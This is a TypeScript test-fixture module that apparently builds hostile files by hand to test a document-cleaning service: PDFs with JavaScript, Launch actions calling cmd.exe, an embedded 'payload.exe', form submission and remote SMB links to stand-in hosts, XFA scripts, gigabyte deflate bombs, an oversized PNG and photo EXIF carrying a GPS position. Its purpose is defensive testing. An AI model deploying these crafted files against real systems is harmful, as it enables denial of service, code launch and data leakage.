// Hostile files made by hand, byte by byte, so a test shows exactly what it attacks with: PDFs
// with actions and scripts, a photo with a position in its EXIF, PNGs and streams that inflate far
// beyond their size. Nothing here uses the code under test.
import { createHash } from 'node:crypto';
import { deflateRawSync, deflateSync, constants } from 'node:zlib';

// ---- PDF ----

/** One stream object's text: the dictionary (without /Length) and the data. */
export function pdfStream(dict: string, data: Buffer | string): Buffer {
  const bytes = Buffer.isBuffer(data) ? data : Buffer.from(data, 'latin1');
  return Buffer.concat([Buffer.from(`<< ${dict} /Length ${bytes.length} >>\nstream\n`, 'latin1'), bytes, Buffer.from('\nendstream', 'latin1')]);
}

/** A PDF from its objects, numbered from 1, with a correct cross-reference table. */
export function pdfFromObjects(objects: (string | Buffer)[], trailer = '/Root 1 0 R'): Buffer {
  const parts: Buffer[] = [Buffer.from('%PDF-1.7\n%\xe2\xe3\xcf\xd3\n', 'latin1')];
  let offset = parts[0]!.length;
  const offsets: number[] = [];
  objects.forEach((object, i) => {
    const bytes = Buffer.concat([Buffer.from(`${i + 1} 0 obj\n`, 'latin1'), Buffer.isBuffer(object) ? object : Buffer.from(object, 'latin1'), Buffer.from('\nendobj\n', 'latin1')]);
    offsets.push(offset);
    parts.push(bytes);
    offset += bytes.length;
  });
  const xref = [`xref\n0 ${objects.length + 1}\n0000000000 65535 f \n`, ...offsets.map((o) => `${String(o).padStart(10, '0')} 00000 n \n`)].join('');
  parts.push(Buffer.from(`${xref}trailer\n<< /Size ${objects.length + 1} ${trailer} >>\nstartxref\n${offset}\n%%EOF\n`, 'latin1'));
  return Buffer.concat(parts);
}

/** Text drawn on the one page of every crafted PDF: it must still be there after cleaning. */
export const VISIBLE_TEXT = 'Synlig tekst paa siden';

/**
 * A one-page PDF with its text in an uncompressed content stream, and room for the attack:
 * entries added to the catalogue and the page, and objects numbered from 6 on.
 */
export function onePagePdf(options: { catalog?: string; page?: string; objects?: (string | Buffer)[]; contentStream?: Buffer } = {}): Buffer {
  return pdfFromObjects([
    `<< /Type /Catalog /Pages 2 0 R ${options.catalog ?? ''} >>`,
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Resources << /Font << /F1 5 0 R >> >> /Contents 4 0 R ${options.page ?? ''} >>`,
    options.contentStream ?? pdfStream('', `BT /F1 18 Tf 72 700 Td (${VISIBLE_TEXT}) Tj ET`),
    '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>',
    ...(options.objects ?? []),
  ]);
}

/** A link annotation over the text, doing `action` when clicked (object 6). */
export function pdfWithLinkAction(action: string): Buffer {
  return onePagePdf({ page: '/Annots [6 0 R]', objects: [`<< /Type /Annot /Subtype /Link /Rect [72 690 400 720] /Border [0 0 0] /A ${action} >>`] });
}

/**
 * One PDF per kind of active content, each with a marker that must not survive. `removed` is what the
 * caseworker is to be told was taken out, the most dangerous first.
 */
export function activeContentPdfs(): { name: string; pdf: Buffer; marker: string; removed: string[] }[] {
  const js = (marker: string) => `<< /Type /Action /S /JavaScript /JS (app.alert\\('${marker}'\\);) >>`;
  return [
    { name: 'openaction-js.pdf', marker: 'OPENACTION-JS', removed: ['javascript'], pdf: onePagePdf({ catalog: '/OpenAction 6 0 R', objects: [js('OPENACTION-JS')] }) },
    { name: 'page-aa.pdf', marker: 'PAGE-AA-JS', removed: ['javascript', 'actions'], pdf: onePagePdf({ page: '/AA << /O 6 0 R /C << /S /Launch /F (PAGE-AA-LAUNCH.exe) >> >>', objects: [js('PAGE-AA-JS')] }) },
    {
      name: 'javascript-name-tree.pdf',
      marker: 'NAMETREE-JS',
      removed: ['javascript'],
      pdf: onePagePdf({ catalog: '/Names << /JavaScript 6 0 R >>', objects: ['<< /Names [(init) 7 0 R] >>', js('NAMETREE-JS')] }),
    },
    {
      name: 'embedded-files.pdf',
      marker: 'EMBEDDED-PAYLOAD',
      removed: ['embeddedFiles'],
      pdf: onePagePdf({
        catalog: '/Names << /EmbeddedFiles 6 0 R >>',
        objects: ['<< /Names [(payload.exe) 7 0 R] >>', '<< /Type /Filespec /F (payload.exe) /EF << /F 8 0 R >> >>', pdfStream('/Type /EmbeddedFile', 'MZ EMBEDDED-PAYLOAD')],
      }),
    },
    { name: 'launch.pdf', marker: 'LAUNCH-TARGET', removed: ['actions'], pdf: pdfWithLinkAction('<< /S /Launch /F (LAUNCH-TARGET.exe) /Win << /F (cmd.exe) /P (LAUNCH-TARGET) >> >>') },
    { name: 'submitform.pdf', marker: 'SUBMIT-TARGET', removed: ['actions'], pdf: pdfWithLinkAction('<< /S /SubmitForm /F << /FS /URL /F (https://innsamling.example/SUBMIT-TARGET) >> >>') },
    { name: 'importdata.pdf', marker: 'IMPORT-TARGET', removed: ['actions'], pdf: pdfWithLinkAction('<< /S /ImportData /F (IMPORT-TARGET.fdf) >>') },
    { name: 'gotor.pdf', marker: 'GOTOR-TARGET', removed: ['actions'], pdf: pdfWithLinkAction('<< /S /GoToR /F (\\\\\\\\smb.example\\\\GOTOR-TARGET.pdf) /D [0 /Fit] >>') },
    { name: 'annotation-js.pdf', marker: 'ANNOT-JS', removed: ['javascript'], pdf: pdfWithLinkAction(js('ANNOT-JS')) },
    {
      name: 'xfa.pdf',
      marker: 'XFA-SCRIPT',
      removed: ['xfa'],
      pdf: onePagePdf({
        catalog: '/AcroForm << /Fields [] /XFA 6 0 R >> /NeedsRendering true',
        objects: [pdfStream('', '<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template><subform><event activity="initialize"><script contentType="application/x-javascript">XFA-SCRIPT</script></event></subform></template></xdp:xdp>')],
      }),
    },
    { name: 'uri-link.pdf', marker: 'URI-TARGET', removed: ['links'], pdf: pdfWithLinkAction('<< /S /URI /URI (https://sporing.example/URI-TARGET) >>') },
  ];
}

/**
 * A zlib stream of `size` zero bytes, about a thousandth of that long, made without ever holding
 * the zeros: one compressed megabyte, ended with a full flush so it stands alone, repeated.
 */
export function deflatedZeros(size: number): Buffer {
  const chunk = 1024 * 1024;
  const flushed = (n: number) => deflateRawSync(Buffer.alloc(n), { level: 9, finishFlush: constants.Z_FULL_FLUSH });
  const whole = flushed(chunk);
  const parts = [Buffer.from([0x78, 0xda])];
  for (let i = 0; i < Math.floor(size / chunk); i++) parts.push(whole);
  if (size % chunk) parts.push(flushed(size % chunk));
  // The last, empty block; then the Adler-32 of all zeros: A stays 1, B adds 1 per byte.
  parts.push(Buffer.from([0x03, 0x00]));
  const adler = Buffer.alloc(4);
  adler.writeUInt32BE((((size % 65521) << 16) | 1) >>> 0);
  parts.push(adler);
  return Buffer.concat(parts);
}

/** A PDF whose page content is 1 MB of deflate that inflates to `inflated` bytes. */
export function deflateBombPdf(inflated = 1024 ** 3): Buffer {
  return onePagePdf({ contentStream: pdfStream('/Filter /FlateDecode', deflatedZeros(inflated)) });
}

/** The same bomb as an object stream, which a parser inflates before it has seen anything else. */
export function objectStreamBombPdf(inflated = 1024 ** 3): Buffer {
  return onePagePdf({ objects: [pdfStream('/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode', deflatedZeros(inflated))] });
}

function rc4(key: Buffer, data: Buffer): Buffer {
  const state = Array.from({ length: 256 }, (_, i) => i);
  for (let i = 0, j = 0; i < 256; i++) {
    j = (j + state[i]! + key[i % key.length]!) & 0xff;
    [state[i], state[j]] = [state[j]!, state[i]!];
  }
  const out = Buffer.alloc(data.length);
  for (let n = 0, i = 0, j = 0; n < data.length; n++) {
    i = (i + 1) & 0xff;
    j = (j + state[i]!) & 0xff;
    [state[i], state[j]] = [state[j]!, state[i]!];
    out[n] = data[n]! ^ state[(state[i]! + state[j]!) & 0xff]!;
  }
  return out;
}

const md5 = (...parts: Buffer[]) => createHash('md5').update(Buffer.concat(parts)).digest();

/**
 * The one-page PDF encrypted as Acrobat does with the standard handler, revision 2 (RC4, 40-bit
 * key), an empty user password and a secret owner password: any viewer opens it without asking, yet
 * its page is ciphertext to anyone who does not decrypt it (PDF 1.7, 7.6.3, algorithms 1 to 4).
 */
export function encryptedPdf(): Buffer {
  const PAD = Buffer.from('28bf4e5e4e758a4164004e56fffa01082e2e00b6d0683e802f0ca9fe6453697a', 'hex');
  const id = Buffer.from('0123456789abcdef0123456789abcdef', 'hex');
  const permissions = -44;
  const owner = rc4(md5(Buffer.concat([Buffer.from('eier-hemmelig'), PAD]).subarray(0, 32)).subarray(0, 5), PAD);
  const p = Buffer.alloc(4);
  p.writeInt32LE(permissions);
  const key = md5(PAD, owner, p, id).subarray(0, 5);
  const user = rc4(key, PAD);
  const objectKey = (num: number) => md5(key, Buffer.from([num & 0xff, (num >> 8) & 0xff, (num >> 16) & 0xff, 0, 0])).subarray(0, 10);
  const content = rc4(objectKey(4), Buffer.from(`BT /F1 18 Tf 72 700 Td (${VISIBLE_TEXT}) Tj ET`, 'latin1'));
  return pdfFromObjects(
    [
      '<< /Type /Catalog /Pages 2 0 R >>',
      '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
      '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Resources << /Font << /F1 5 0 R >> >> /Contents 4 0 R >>',
      pdfStream('', content),
      '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>',
      `<< /Filter /Standard /V 1 /R 2 /O <${owner.toString('hex')}> /U <${user.toString('hex')}> /P ${permissions} >>`,
    ],
    `/Root 1 0 R /Encrypt 6 0 R /ID [<${id.toString('hex')}> <${id.toString('hex')}>]`,
  );
}

// ---- PNG ----

const CRC_TABLE = Array.from({ length: 256 }, (_, n) => {
  let c = n;
  for (let k = 0; k < 8; k++) c = c & 1 ? 0xedb88320 ^ (c >>> 1) : c >>> 1;
  return c >>> 0;
});

function crc32(bytes: Buffer): number {
  let c = 0xffffffff;
  for (const b of bytes) c = CRC_TABLE[(c ^ b) & 0xff]! ^ (c >>> 8);
  return (c ^ 0xffffffff) >>> 0;
}

function pngChunk(type: string, data: Buffer): Buffer {
  const length = Buffer.alloc(4);
  length.writeUInt32BE(data.length);
  const body = Buffer.concat([Buffer.from(type, 'latin1'), data]);
  const crc = Buffer.alloc(4);
  crc.writeUInt32BE(crc32(body));
  return Buffer.concat([length, body, crc]);
}

function pngHeader(width: number, height: number, bitDepth: number, colourType: number): Buffer {
  const ihdr = Buffer.alloc(13);
  ihdr.writeUInt32BE(width, 0);
  ihdr.writeUInt32BE(height, 4);
  ihdr.writeUInt8(bitDepth, 8);
  ihdr.writeUInt8(colourType, 9);
  return Buffer.concat([Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]), pngChunk('IHDR', ihdr)]);
}

/** A valid black 1-bit PNG of width × height: 60,000 × 60,000 is about 437 KB of 3.6 gigapixels. */
export function hugeBlankPng(width: number, height: number): Buffer {
  const rowBytes = 1 + Math.ceil(width / 8);
  return Buffer.concat([pngHeader(width, height, 1, 0), pngChunk('IDAT', deflatedZeros(rowBytes * height)), pngChunk('IEND', Buffer.alloc(0))]);
}

/** An RGB PNG from pixels [r, g, b] by row, with extra chunks (text, EXIF) before the image data. */
export function rgbPng(width: number, height: number, pixel: (x: number, y: number) => [number, number, number], extraChunks: [string, Buffer][] = []): Buffer {
  const raw = Buffer.alloc((1 + width * 3) * height);
  for (let y = 0; y < height; y++) {
    for (let x = 0; x < width; x++) raw.set(pixel(x, y), y * (1 + width * 3) + 1 + x * 3);
  }
  return Buffer.concat([pngHeader(width, height, 8, 2), ...extraChunks.map(([type, data]) => pngChunk(type, data)), pngChunk('IDAT', deflateSync(raw)), pngChunk('IEND', Buffer.alloc(0))]);
}

// ---- EXIF ----

type IfdEntry = { tag: number; type: 2 | 3 | 4 | 5; values: number[] | string };

/**
 * A little-endian TIFF structure as EXIF carries it: IFD0 with the given entries and a pointer to a
 * GPS IFD with its own. Offsets are computed; values that do not fit four bytes follow each IFD.
 */
export function exifTiff(ifd0: IfdEntry[], gps: IfdEntry[]): Buffer {
  const size = (e: IfdEntry) => (e.type === 2 ? (e.values as string).length + 1 : e.type === 3 ? 2 * (e.values as number[]).length : e.type === 4 ? 4 * (e.values as number[]).length : 8 * ((e.values as number[]).length / 2));
  const layout = (entries: IfdEntry[], start: number) => {
    const head = Buffer.alloc(2 + entries.length * 12 + 4);
    head.writeUInt16LE(entries.length, 0);
    const tail: Buffer[] = [];
    let tailOffset = start + head.length;
    entries.forEach((e, i) => {
      const at = 2 + i * 12;
      const value = Buffer.alloc(Math.max(4, size(e)));
      if (e.type === 2) value.write(`${e.values as string}\0`, 'latin1');
      else (e.values as number[]).forEach((v, j) => (e.type === 3 ? value.writeUInt16LE(v, j * 2) : value.writeUInt32LE(v, j * 4)));
      head.writeUInt16LE(e.tag, at);
      head.writeUInt16LE(e.type, at + 2);
      head.writeUInt32LE(e.type === 5 ? (e.values as number[]).length / 2 : e.type === 2 ? (e.values as string).length + 1 : (e.values as number[]).length, at + 4);
      if (size(e) <= 4) value.copy(head, at + 8, 0, 4);
      else {
        head.writeUInt32LE(tailOffset, at + 8);
        tail.push(value);
        tailOffset += value.length;
      }
    });
    return { bytes: Buffer.concat([head, ...tail]), end: tailOffset };
  };
  const GPS_POINTER = 0x8825;
  // IFD0 starts at 8; its GPS pointer entry is filled in once IFD0's length is known.
  const withPointer = [...ifd0, { tag: GPS_POINTER, type: 4 as const, values: [0] }].sort((a, b) => a.tag - b.tag);
  const first = layout(withPointer, 8);
  const gpsIfd = layout(gps, first.end);
  const pointerIndex = withPointer.findIndex((e) => e.tag === GPS_POINTER);
  first.bytes.writeUInt32LE(first.end, 2 + pointerIndex * 12 + 8);
  return Buffer.concat([Buffer.from('II*\0', 'latin1'), Buffer.from([8, 0, 0, 0]), first.bytes, gpsIfd.bytes]);
}

/** What a phone writes: its make and model, which way up it was held, and where it stood. */
export const PHONE_EXIF = {
  make: 'Telefonprodusent',
  model: 'Lommekamera 15 Pro',
  /** 6: the picture must be turned 90° clockwise to stand upright. */
  orientation: 6,
  /** 59° 54' 47.6" N, 10° 45' 8.4" E: a street in Oslo, as rationals. */
  latitude: [59, 1, 54, 1, 476, 10],
  longitude: [10, 1, 45, 1, 84, 10],
};

export function phoneExif(): Buffer {
  return exifTiff(
    [
      { tag: 0x010f, type: 2, values: PHONE_EXIF.make },
      { tag: 0x0110, type: 2, values: PHONE_EXIF.model },
      { tag: 0x0112, type: 3, values: [PHONE_EXIF.orientation] },
    ],
    [
      { tag: 0x0001, type: 2, values: 'N' },
      { tag: 0x0002, type: 5, values: PHONE_EXIF.latitude },
      { tag: 0x0003, type: 2, values: 'E' },
      { tag: 0x0004, type: 5, values: PHONE_EXIF.longitude },
    ],
  );
}

/** A JPEG with an EXIF APP1 segment put in right after its start marker. */
export function withExifSegment(jpeg: Buffer, tiff: Buffer): Buffer {
  const payload = Buffer.concat([Buffer.from('Exif\0\0', 'latin1'), tiff]);
  const header = Buffer.from([0xff, 0xe1, 0, 0]);
  header.writeUInt16BE(payload.length + 2, 2);
  return Buffer.concat([jpeg.subarray(0, 2), header, payload, jpeg.subarray(2)]);
}
